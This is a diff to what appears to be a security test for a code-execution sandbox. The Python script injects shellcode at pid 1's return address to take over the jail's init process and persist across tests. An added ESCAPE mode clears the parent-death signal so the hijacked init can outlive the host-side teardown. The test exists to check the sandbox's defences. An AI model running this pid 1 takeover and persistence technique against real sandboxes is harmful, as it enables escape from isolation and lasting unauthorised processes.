@@ -5,6 +5,11 @@ the code at its return address with shellcode that execve()s a Python loop, then
 by orphaning a child that exits. If this works, a process we control outlives the test:
 the zygote's kill(-1) never reaches pid 1, so it persists into later tests on this slot.
 Prints PWNED only if pid 1 is running our program afterwards.
+
+With ESCAPE set, the new init also clears its parent-death signal (the only thing tying
+the jail's lifetime to the host-side bwrap: the jail runs in its own session, so killing
+bwrap's process group does not reach it), and the test then kills the zygote so the
+server tears the jail down. The init, and with it the whole jail, should die with it.
 """
 
 import os
@@ -13,13 +18,23 @@ import sys
 import time
 
 MARKER = "cobalt-pid1-takeover-@TOKEN@"
+ESCAPE = "@ESCAPE@" == "1"
+PR_SET_PDEATHSIG = 1
 
 
 def main():
     fields = open("/proc/1/syscall").read().split()
     pc = int(fields[-1], 16)
-    loop = "import time\nwhile True:\n    time.sleep(0.05)\n"
-    strings = [b"/usr/bin/python3.11\0", b"-c\0", loop.encode() + b"\0", MARKER.encode() + b"\0"]
+    loop = "import time\n"
+    if ESCAPE:
+        loop += f"import ctypes\nctypes.CDLL(None).prctl({PR_SET_PDEATHSIG}, 0, 0, 0, 0)\n"
+    loop += "while True:\n    time.sleep(0.05)\n"
+    strings = [
+        sys.executable.encode() + b"\0",
+        b"-c\0",
+        loop.encode() + b"\0",
+        MARKER.encode() + b"\0",
+    ]
     code_len = 10 + 10 + 2 + 5 + 2 + 2
     data = b""
     addresses = []
@@ -52,8 +67,13 @@ def main():
         time.sleep(0.02)
         with open("/proc/1/cmdline", "rb") as fh:
             if MARKER.encode() in fh.read():
-                print("PWNED")
-                return
+                print("PWNED", flush=True)
+                break
+    else:
+        return
+    if ESCAPE:
+        time.sleep(0.2)  # let the new init clear its parent-death signal
+        os.kill(2, 9)
 
 
 try:
